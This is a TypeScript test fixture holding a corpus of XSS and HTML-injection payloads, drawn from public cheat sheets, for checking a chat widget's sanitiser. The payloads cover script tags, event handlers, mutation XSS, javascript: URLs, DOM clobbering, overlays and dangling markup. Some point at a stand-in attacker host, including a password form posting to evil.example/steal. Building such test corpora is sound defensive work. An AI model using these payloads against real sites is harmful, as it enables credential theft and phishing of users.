/**
 * Known XSS and HTML-injection payloads, sent as agent HTML lines (e2e/xss.spec.ts). Every payload
 * that could run code calls the page's tripwire, `top.__xss(id)` (or assigns it, or opens a dialog),
 * so a payload that ran says which one it was. `text` is what the visitor must still be able to
 * read in the line afterwards: the words of the payload that are content, not markup.
 *
 * Sources: the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet, the DOMPurify
 * bypasses of 2019-2024 (namespace confusion, nesting depth), HTML5 Security Cheatsheet entries,
 * and the dangling-markup and DOM-clobbering write-ups.
 */

export type Category =
  | 'script'
  | 'handler'
  | 'svg-mathml'
  | 'mxss'
  | 'frame-object'
  | 'base-meta-link'
  | 'clobbering'
  | 'css-overlay'
  | 'url'
  | 'form'
  | 'dangling'
  | 'injection';

export interface Payload {
  id: number;
  category: Category;
  html: string;
  /** Words the line must still show (empty: the payload has no content to show). */
  text: string;
}

export const corpus: Payload[] = [];

let category: Category = 'script';
/** Adds a payload; `html` may be a function of the tripwire call for this payload. */
function add(html: string | ((x: string) => string), text: string): void {
  const id = corpus.length + 1;
  corpus.push({ id, category, html: typeof html === 'function' ? html(`top.__xss(${id})`) : html, text });
}

/** An https image the sanitiser keeps (the strict page's img-src refuses it: see xss.spec.ts). */
export const KEPT_IMAGE = 'https://images.example.net/pixel.png';
/** An address for payloads to exfiltrate to or load from. */
const EVIL = 'https://evil.example';

// ——— <script> in many spellings ———
category = 'script';
add((x) => `Hello <script>${x}</script>`, 'Hello');
add((x) => `Hello <SCRIPT>${x}</SCRIPT>`, 'Hello');
add((x) => `Hello <ScRiPt>${x}</sCrIpT>`, 'Hello');
add((x) => `Hello <script type="text/javascript">${x}</script>`, 'Hello');
add((x) => `Hello <script type="module">${x}</script>`, 'Hello');
add(`Hello <script src="${EVIL}/x.js"></script>`, 'Hello');
add(`Hello <script src=//evil.example/x.js></script>`, 'Hello');
add((x) => `Hello <script src="data:text/javascript,${x}"></script>`, 'Hello');
add((x) => `Hello <script/xss>${x}</script>`, 'Hello');
add((x) => `Hello <script\t>${x}</script\t>`, 'Hello');
add((x) => `Hello <script\n>${x}</script\n>`, 'Hello');
add((x) => `Hello <scr<script>ipt>${x}</scr</script>ipt>`, 'Hello');
add((x) => `Hello <<script>${x}//<</script>`, 'Hello');
add((x) => `Hello <script>/*</script>*/${x}</script>`, 'Hello');
add((x) => `Hello <script defer async nomodule>${x}</script>`, 'Hello');
add((x) => `Hello <script>setTimeout('${x}')</script>`, 'Hello');
add(`Hello <script>\\u0074op.__xss(${corpus.length + 1})</script>`, 'Hello');
add((x) => `Hello &lt;script&gt;${x}&lt;/script&gt;`, 'Hello <script>');
add((x) => `Hello %3Cscript%3E${x}%3C/script%3E`, 'Hello %3Cscript%3E');
add((x) => `<div title="</div><script>${x}</script>">Hello</div>`, 'Hello');
add((x) => `Hello <script>${x}`, 'Hello');
add((x) => `Hello <script charset="UTF-7">+ADw-script+AD4-${x}+ADw-/script+AD4-</script>`, 'Hello');

// ——— event handlers, on many elements and in many spellings ———
category = 'handler';
for (const [tag, attrs] of [
  ['img', 'src=x onerror'],
  ['img', `src="${KEPT_IMAGE}" onload`],
  ['img', 'src=x oNeRrOr'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['svg', 'onload'],
  ['iframe', 'onload'],
  ['input', 'autofocus onfocus'],
  ['select', 'autofocus onfocus'],
  ['textarea', 'autofocus onfocus'],
  ['button', 'autofocus onfocus'],
  ['details', 'open ontoggle'],
  ['marquee', 'onstart'],
  ['video', 'src=x onerror'],
  ['audio', 'src=x onerror'],
  ['object', 'data=x onerror'],
  ['embed', 'src=x onload'],
  ['div', 'onmouseover'],
  ['div', 'tabindex=0 autofocus onfocusin'],
  ['a', `href="https://example.com/" onclick`],
  ['b', 'onpointerenter'],
  ['p', 'onanimationstart'],
  ['span', 'contenteditable onbeforeinput'],
  ['li', 'onclick'],
  ['x', 'onclick'],
  ['form', 'onsubmit'],
  ['frameset', 'onload'],
  ['style', 'onload'],
  ['link', `rel=stylesheet href="${EVIL}/x.css" onload`],
  ['dialog', 'open onclose'],
  ['div', 'popover id=pop onbeforetoggle'],
] as const) {
  // What a browser would not show either: the content of frames, media, SVG and style sheets.
  const hidden = ['style', 'svg', 'iframe', 'video', 'audio'].includes(tag);
  add((x) => `<${tag} ${attrs}="${x}">Handler on ${tag}</${tag}>`, hidden ? '' : `Handler on ${tag}`);
}
add((x) => `<img src=x onerror=${x}>Unquoted`, 'Unquoted');
add((x) => `<img src=x\nonerror="${x}">Newline`, 'Newline');
add((x) => `<img src=x\tonerror\t=\t"${x}">Tabs`, 'Tabs');
add((x) => `<img/src="x"/onerror="${x}">Slashes`, 'Slashes');
add((x) => `<img src=\`x\`onerror=${x}>Backticks`, 'Backticks');
add((x) => `<img src=x onerror="&#x74;&#x6f;&#x70;${x.slice(3)}">Entities`, 'Entities');
add((x) => `<img src=x onerror="eval(atob('${Buffer.from(x).toString('base64')}'))">Base64`, 'Base64');
add((x) => `<img """><script>${x}</script>">Quotes`, 'Quotes');
add((x) => `<img src=x:x onerror=${x}//>Scheme`, 'Scheme');

// ——— SVG and MathML ———
category = 'svg-mathml';
add((x) => `<svg><script>${x}</script></svg>In SVG`, 'In SVG');
add((x) => `<svg><script href="data:,${x}" /></svg>In SVG`, 'In SVG');
add((x) => `<svg><a xlink:href="javascript:${x}"><text x="20" y="20">svg link</text></a></svg>In SVG`, 'In SVG');
add((x) => `<svg><animate onbegin="${x}" attributeName="x" dur="1s" /></svg>In SVG`, 'In SVG');
add((x) => `<svg><set attributeName="onmouseover" to="${x}" /></svg>In SVG`, 'In SVG');
add((x) => `<svg><a><animate attributeName="href" values="javascript:${x}" /><text x="20" y="20">click</text></a></svg>In SVG`, 'In SVG');
add((x) => `<svg><image href="${EVIL}/x.png" onerror="${x}" /></svg>In SVG`, 'In SVG');
add((x) => `<svg><foreignObject><img src=x onerror="${x}"></foreignObject></svg>In SVG`, 'In SVG');
add((x) => `<svg><desc><img src=x onerror="${x}"></desc></svg>In SVG`, 'In SVG');
add((x) => `<svg><style>@import "${EVIL}/x.css";</style><g onload="${x}"></g></svg>In SVG`, 'In SVG');
add((x) => `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='${x}' /&gt;&lt;/svg&gt;#x" /></svg>In SVG`, 'In SVG');
add(`<svg width="100%" height="100%" style="position:fixed;inset:0"><rect width="100%" height="100%" /></svg>In SVG`, 'In SVG');
add((x) => `<math><maction actiontype="statusline" xlink:href="javascript:${x}">In MathML</maction></math>After`, 'After');
add((x) => `<math href="javascript:${x}"><mi>In MathML</mi></math>After`, 'After');
add((x) => `<math><mtext><table><mglyph><style><img src=x onerror="${x}"></style></mglyph></table></mtext></math>After`, 'After');
add((x) => `<math><annotation-xml encoding="text/html"><img src=x onerror="${x}"></annotation-xml></math>After`, 'After');

// ——— mutation XSS and parser differentials ———
category = 'mxss';
add((x) => `<noscript><p title="</noscript><img src=x onerror=${x}>">Noscript</p></noscript>After`, 'After');
add((x) => `<svg></p><style><a id="</style><img src=1 onerror=${x}>">After`, 'After');
add((x) => `Before<math><mi><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${x}&gt;">`, 'Before');
add((x) => `Before<form><math><mtext></form><form><mglyph><style></math><img src onerror=${x}>`, 'Before');
add((x) => `<template><style></template><img src=x onerror=${x}></style></template>After`, 'After');
add((x) => `<title><img src=x onerror=${x}></title>After`, 'After');
add((x) => `<textarea><img src=x onerror=${x}></textarea>After`, 'After');
add((x) => `<xmp><img src=x onerror=${x}></xmp>After`, 'After');
add((x) => `<iframe><img src=x onerror=${x}></iframe>After`, 'After');
add((x) => `<noembed><img src=x onerror=${x}></noembed>After`, 'After');
add((x) => `<noframes><img src=x onerror=${x}></noframes>After`, 'After');
add((x) => `<style><img src=x onerror=${x}></style>After`, 'After');
add((x) => `Before<plaintext><img src=x onerror=${x}>`, 'Before');
add((x) => `<!--<img src="--><img src=x onerror=${x}//">After`, 'After');
add((x) => `<a title="<!--"><img src=x onerror=${x}>--></a>After`, 'After');
add((x) => `<svg><![CDATA[><img src=x onerror=${x}>]]></svg>After`, 'After');
add((x) => `<! <img src=x onerror=${x}> >After`, 'After');
add((x) => `<?img src=x onerror=${x}?>After`, 'After');
add((x) => `<p id="</p><img src=x onerror=${x}>">After</p>`, 'After');
add((x) => `<select><template><style><img src=x onerror=${x}></style></template></select>After`, 'After');
add((x) => `<table><caption><svg><style><img src=x onerror=${x}></style></svg></caption></table>After`, 'After');
add((x) => `${'<div>'.repeat(510)}<img src=x onerror=${x}>${'</div>'.repeat(510)}After`, 'After');
add((x) => `${'<b>'.repeat(300)}<svg><style><img src=x onerror=${x}></style></svg>${'</b>'.repeat(300)}After`, 'After');
add((x) => `<div><![CDATA[</div><img src=x onerror=${x}>]]>After`, 'After');
add((x) => `<a href="https://example.com/"><a href="https://example.com/"><img src=x onerror=${x}>After</a></a>`, 'After');

// ——— frames, plugins, srcdoc ———
category = 'frame-object';
add((x) => `<iframe srcdoc="<script>${x}</script>"></iframe>Frame`, 'Frame');
add((x) => `<iframe srcdoc="&lt;img src=x onerror=${x}&gt;"></iframe>Frame`, 'Frame');
add((x) => `<iframe srcdoc="<meta http-equiv=refresh content='0;url=javascript:${x}'>"></iframe>Frame`, 'Frame');
add((x) => `<iframe src="javascript:${x}"></iframe>Frame`, 'Frame');
add((x) => `<iframe src="data:text/html,<script>${x}</script>"></iframe>Frame`, 'Frame');
add(`<iframe src="${EVIL}/" style="position:fixed;inset:0;width:100vw;height:100vh;border:0"></iframe>Frame`, 'Frame');
add((x) => `<object data="javascript:${x}"></object>Frame`, 'Frame');
add((x) => `<object data="data:text/html;base64,${Buffer.from(`<script>${x}</script>`).toString('base64')}"></object>Frame`, 'Frame');
add((x) => `<embed src="javascript:${x}">Frame`, 'Frame');
add((x) => `<embed src="data:image/svg+xml,&lt;svg onload='${x}' xmlns='http://www.w3.org/2000/svg'/&gt;">Frame`, 'Frame');
add((x) => `<frameset><frame src="javascript:${x}"></frameset>Frame`, '');
add(`<portal src="${EVIL}/"></portal><fencedframe></fencedframe>Frame`, 'Frame');
add((x) => `<applet code="x" codebase="javascript:${x}"></applet>Frame`, 'Frame');

// ——— base, meta, link ———
category = 'base-meta-link';
add(`<base href="${EVIL}/"><a href="/account">Your account</a>`, 'Your account');
add(`<base target="_top"><a href="https://example.com/">Base target</a>`, 'Base target');
add((x) => `<meta http-equiv="refresh" content="0;url=javascript:${x}">Meta refresh`, 'Meta refresh');
add(`<meta http-equiv="refresh" content="0;url=${EVIL}/">Meta refresh`, 'Meta refresh');
add(`<meta http-equiv="Content-Security-Policy" content="script-src *; default-src *">Meta CSP`, 'Meta CSP');
add(`<meta http-equiv="set-cookie" content="session=stolen">Meta cookie`, 'Meta cookie');
add(`<meta charset="UTF-7">+ADw-b+AD4-Meta charset`, 'Meta charset');
add(`<link rel="stylesheet" href="${EVIL}/x.css">Link style`, 'Link style');
add(`<link rel="import" href="${EVIL}/x.html">Link import`, 'Link import');
add(`<link rel="prefetch" href="${EVIL}/track">Link prefetch`, 'Link prefetch');

// ——— DOM clobbering ———
category = 'clobbering';
add(`<a id="__xss" href="https://example.com/">Clobber the tripwire</a>`, 'Clobber the tripwire');
add(`<img name="__xss" src="${KEPT_IMAGE}">Clobber by name`, 'Clobber by name');
add(`<form id="document"><input name="cookie"></form>Clobber document`, 'Clobber document');
add(`<a id="location" href="${EVIL}/">Clobber location</a>`, 'Clobber location');
add(`<img name="getElementById"><img name="querySelector">Clobber methods`, 'Clobber methods');
add(`<form name="body"><input name="attributes"><input name="nodeName"></form>Clobber body`, 'Clobber body');
add(`<a id="defaultView"></a><a id="defaultView" name="alert" href="${EVIL}/">Clobber collections</a>`, 'Clobber collections');
add(`<iframe name="alert"></iframe><embed name="open">Clobber globals`, 'Clobber globals');
add(`<input form="lp-composer" name="text" value="injected">Clobber the composer`, 'Clobber the composer');
add(`<div id="lp-window" class="window launcher">Take the window's ids</div>`, "Take the window's ids");

// ——— CSS that overlays the page ———
category = 'css-overlay';
add(`<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff">Your session expired, log in again</div>`, 'Your session expired, log in again');
add(`<a href="${EVIL}/" style="position:fixed;inset:0;display:block;z-index:2147483647">Full-page link</a>`, 'Full-page link');
add(`<span style="position:absolute;top:-500px;left:-500px;width:5000px;height:5000px">Absolute</span>`, 'Absolute');
add(`<div style="transform:scale(50);transform-origin:0 0">Scaled</div>`, 'Scaled');
add(`<div style="margin-left:-3000px;width:9000px">Negative margin</div>`, 'Negative margin');
add(`<style>*{display:none!important}</style>Global style`, 'Global style');
add(`<style>@import url(${EVIL}/x.css);</style>Style import`, 'Style import');
add((x) => `<p style="background:url('javascript:${x}')">Style url</p>`, 'Style url');
add((x) => `<div style="width:expression(${x})">Style expression</div>`, 'Style expression');
add(`<div style="-moz-binding:url(${EVIL}/x.xml#x);behavior:url(${EVIL}/x.htc)">Style binding</div>`, 'Style binding');
add(`<div class="launcher window header">The window's own classes</div>`, "The window's own classes");
add(`<div part="log launcher" slot="x">Parts and slots</div>`, 'Parts and slots');
add(`<dialog open>Top layer dialog</dialog>`, 'Top layer dialog');
add(`<div popover="manual" id="p">Popover</div><button popovertarget="p" popovertargetaction="show">Show</button>`, 'PopoverShow');
add(`<img src="${KEPT_IMAGE}" width="6000" height="6000" style="position:fixed">Huge image`, 'Huge image');
add(`<marquee behavior="alternate" width="5000">Marquee</marquee>`, 'Marquee');
add(`<font size="100" face="x" color="red">Font</font><center>Center</center>`, 'FontCenter');
add(`<table background="${EVIL}/bg.png" width="5000"><tr><td>Table cell</td></tr></table>`, 'Table cell');
add(`<pre>${'no-break-'.repeat(120)}</pre>Long code`, 'Long code');
add(`<a href="https://example.com/${'a'.repeat(600)}">https://example.com/${'a'.repeat(600)}</a>`, 'https://example.com/aaaa');
add(`${'<ul><li>'.repeat(40)}Deep list${'</li></ul>'.repeat(40)}`, 'Deep list');

// ——— URLs: javascript:, data:, vbscript:, obfuscated ———
category = 'url';
for (const href of [
  'javascript:X',
  'JaVaScRiPt:X',
  ' javascript:X',
  'java\tscript:X',
  'java\nscript:X',
  'java&#x09;script:X',
  'jav&#x0D;ascript:X',
  '&#x0e;javascript:X',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;X',
  '&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58X',
  '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;X',
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058X',
  'javascript&colon;X',
  'javascript://%0aX',
  '\x00javascript:X',
  'data:text/html,<script>X</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:text/html,<script>X</script>',
  'vbscript:msgbox(1)',
  'livescript:X',
  'feed:javascript:X',
  'blob:https://evil.example/uuid',
  'filesystem:https://evil.example/temporary/x',
  'jar:https://evil.example/x.jar!/',
]) {
  add((x) => `<a href="${href.replace('X', x)}">Bad link</a>`, 'Bad link');
}
add((x) => `<a href="https://example.com/" target="_top" rel="opener">Opener</a><a xlink:href="javascript:${x}">xlink</a>`, 'Openerxlink');
add((x) => `<img src="javascript:${x}" alt="Bad image">`, 'Bad image');
add((x) => `<img src="data:image/svg+xml,<svg onload='${x}'/>" alt="Data image">`, 'Data image');
add(`<img src="http://images.example.net/x.png" alt="Plain http image">`, 'Plain http image');
add(`<img src="//images.example.net/x.png" alt="Scheme-relative image">`, 'Scheme-relative image');
add((x) => `<img srcset="javascript:${x} 1x, ${EVIL}/x.png 2x" alt="Srcset">`, 'Srcset');
add((x) => `<img lowsrc="javascript:${x}" dynsrc="javascript:${x}" alt="Lowsrc">`, 'Lowsrc');
add((x) => `<video poster="javascript:${x}"></video><body background="javascript:${x}">Poster`, 'Poster');
add((x) => `<a href="#" onclick="${x}">Hash link</a>`, 'Hash link');

// ——— form hijacking ———
category = 'form';
add(`<form action="${EVIL}/steal" method="post"><input type="password" name="password" placeholder="Password"><button>Log in</button></form>`, 'Log in');
add((x) => `<form action="javascript:${x}"><button>Submit</button></form>`, 'Submit');
add((x) => `<button form="composer" formaction="javascript:${x}">Send</button>`, 'Send');
add(`<button formaction="${EVIL}/steal" formmethod="post">Formaction</button>`, 'Formaction');
add((x) => `<input type="image" src="javascript:${x}" alt="Image input">`, '');
add(`<input type="hidden" name="token" value="x"><input type="text" value="Card number">Inputs`, 'Inputs');
add(`<select name="x"><option>Option one</option></select>`, 'Option one');
add(`<textarea name="x">Textarea text</textarea>`, 'Textarea text');
add((x) => `<isindex action="javascript:${x}" type="image">Isindex`, 'Isindex');
add(`<keygen autofocus><output name="x">Output</output><label>Label</label><fieldset><legend>Legend</legend></fieldset>`, 'OutputLabelLegend');

// ——— dangling markup ———
category = 'dangling';
add(`Your code is <img src='${EVIL}/?`, 'Your code is');
add(`Your code is <a href="${EVIL}/?`, 'Your code is');
add(`Dangling base <base href='${EVIL}/`, 'Dangling base');
add(`Dangling refresh <meta http-equiv="refresh" content='0;url=${EVIL}/?`, 'Dangling refresh');
add(`Dangling form <form action='${EVIL}/'><textarea>`, 'Dangling form');
add(`Dangling image <img src="${KEPT_IMAGE}?secret=`, 'Dangling image');
add(`Dangling table <table background='//evil.example/?`, 'Dangling table');
add(`Dangling noscript <noscript><p title="`, 'Dangling noscript');
add(`Dangling iframe <iframe name='`, 'Dangling iframe');
add(`Dangling comment <!-- `, 'Dangling comment');

// ——— HTML injection that runs nothing but pretends ———
category = 'injection';
add(`<h1>Security alert</h1><h2>Verify your card</h2>`, 'Security alert');
add(`<a href="${EVIL}/login">https://brand.example/login</a>`, 'https://brand.example/login');
add(`<span aria-hidden="true">Hidden for readers</span><span role="alert" aria-live="assertive">Announced</span>`, 'Hidden for readersAnnounced');
add(`<div hidden>Hidden text</div><details><summary>Summary</summary>Details</details>`, 'Summary');
add(`<b data-x="1" title="t" tabindex="1" accesskey="k" draggable="true" lang="en" dir="rtl">Attributes</b>`, 'Attributes');
add(`<lp-chat-window account="1"></lp-chat-window><lp-chat-message></lp-chat-message>Our own elements`, 'Our own elements');
add(`<custom-element is="x"><slot name="x">Slot</slot></custom-element>`, 'Slot');
add(`<canvas>Canvas</canvas><picture><source srcset="${EVIL}/x.png"><img src="${KEPT_IMAGE}" alt="Picture"></picture>`, 'Canvas');
